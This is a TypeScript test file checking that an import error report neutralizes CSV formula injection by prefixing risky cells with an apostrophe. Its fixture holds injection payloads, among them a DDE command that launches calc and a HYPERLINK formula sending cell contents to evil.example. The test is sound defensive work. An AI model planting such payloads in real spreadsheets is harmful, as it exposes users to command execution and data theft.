import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { useHarness } from '../testing/harness.ts';
import { importFile } from '../testing/imports.ts';
import { errorReportCsv } from './error-report.ts';

const t = useHarness({ work: true });

/** What a spreadsheet would run as a formula (OWASP's list: = + - @, tab and carriage return first). */
const runnable = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-][\d\s().,-]*$/.test(cell);

describe('the error report', () => {
  it('neutralizes cells a spreadsheet would run as formulas: in the reason, the column name and the original row', async () => {
    const owner = await t.h.signUp();
    const file = [
      'email,=cmd|\' /C calc\'!A0,Score',
      '"=HYPERLINK(""http://evil.example/?""&A1,""click"")",x,1',
      '+cmd|calc@x,y,2',
      '@SUM(A1:A9),z,3',
      'ok@example.com,w,-2+3',
      '\tlead@example.com,q,5',
    ].join('\n');
    const { result } = await importFile(owner.client, 'evil.csv', file, {
      mapping: () => ['email', 'properties.evil', 'properties.score'],
      body: {
        newProperties: [
          { column: 1, key: 'evil', label: 'Evil', type: 'number', options: [] },
          { column: 2, key: 'score', label: 'Score', type: 'number', options: [] },
        ],
      },
    });
    expect(result.skippedCount + result.valuesLeftOut).toBeGreaterThanOrEqual(4);
    const res = await owner.client.get(`/api/v1/imports/${result.id}/errors.csv`);
    expect(res.status).toBe(200);
    const rows = parse(res.body, { bom: true, relax_column_count: true }) as string[][];
    expect(rows[0]).toEqual(['row', 'what happened', 'column', 'reason', 'original row']);
    const cells = rows.slice(1).flat();
    expect(cells.filter(runnable)).toEqual([]);
    // The values are still there, behind an apostrophe.
    expect(cells).toContain("'+cmd|calc@x,y,2");
    expect(cells).toContain("'@SUM(A1:A9),z,3");
    expect(cells).toContain("'=cmd|' /C calc'!A0");
    expect(cells).toContain("'\tlead@example.com,q,5");

    // The command line writes the same file.
    const text = await errorReportCsv(t.h.ctx, result.id);
    expect(parse(text, { bom: true, relax_column_count: true })).toEqual(rows);
  });
});
